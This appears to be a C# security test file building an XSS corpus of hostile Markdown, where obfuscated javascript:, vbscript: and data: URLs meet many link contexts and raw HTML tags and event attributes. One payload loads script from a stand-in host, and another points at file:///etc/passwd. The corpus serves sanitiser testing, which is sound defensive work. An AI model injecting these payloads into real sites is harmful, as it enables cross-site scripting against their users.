namespace AccountExit.Tests.Security;

/// <summary>
/// Hostile Markdown: dangerous URL forms in every place Markdown takes a URL, raw HTML, event attributes and
/// attribute syntax. Built as a cross product so each scheme variant meets each context.
/// </summary>
public static class XssCorpus
{
    private static readonly string[] DangerousUrls =
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "JAVASCRIPT:alert(1)",
        " javascript:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;avascript:alert(1)",
        "&#0000106&#0000097vascript:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "jav&#x0A;ascript:alert(1)",
        "java\\script:alert(1)",
        "vbscript:msgbox(1)",
        "VbScRiPt:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "DATA:text/html,<script>alert(1)</script>",
        "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
        "file:///etc/passwd",
        "livescript:alert(1)",
    ];

    private static readonly Func<string, string>[] Contexts =
    [
        url => $"[click]({url})",
        url => $"[click](<{url}>)",
        url => $"[click]({url} \"title\")",
        url => $"![img]({url})",
        url => $"[![img]({url})]({url})",
        url => $"<{url}>",
        url => $"[ref][r]\n\n[r]: {url}",
        url => $"![ref][r]\n\n[r]: <{url}> \"t\"",
    ];

    private static readonly string[] RawAndAttributes =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=\"javascript:alert(1);\">",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<body onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<style>@import 'javascript:alert(1)';</style>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<form action=\"javascript:alert(1)\"><button>x</button></form>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "<link rel=stylesheet href=\"javascript:alert(1)\">",
        "<video><source onerror=\"alert(1)\"></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<isindex action=javascript:alert(1) type=image>",
        "<x onclick=alert(1)>click</x>",
        "`<script>alert(1)</script>`",
        "```html\n<script>alert(1)</script>\n```",
        "# Heading {onclick=alert(1)}",
        "# Heading {#id .class onmouseover=\"alert(1)\"}",
        "Paragraph {style=\"x\" onclick=alert(1)}",
        "[link](https://ok.example){onclick=alert(1)}",
        "![img](/ok.png){onerror=alert(1)}",
        "[x](https://ok.example \"a\\\" onmouseover=\\\"alert(1)\")",
        "<!-- <script>alert(1)</script> -->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"  javascript:alert(1)\">x</a>",
        "<a/href=javascript:alert(1)>x</a>",
        "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
        "- [ ] <img src=x onerror=alert(1)>\n- [x] [y](vbscript:msgbox(1))",
        "Text with a footnote[^1]\n\n[^1]: [x](javascript:alert(1))",
        "www.example.com/<script>alert(1)</script>",
        "https://example.com/\"onmouseover=\"alert(1)",
    ];

    public static IEnumerable<string> All() =>
        DangerousUrls.SelectMany(url => Contexts.Select(context => context(url))).Concat(RawAndAttributes);

    public static TheoryData<string> Cases() => [.. All()];
}
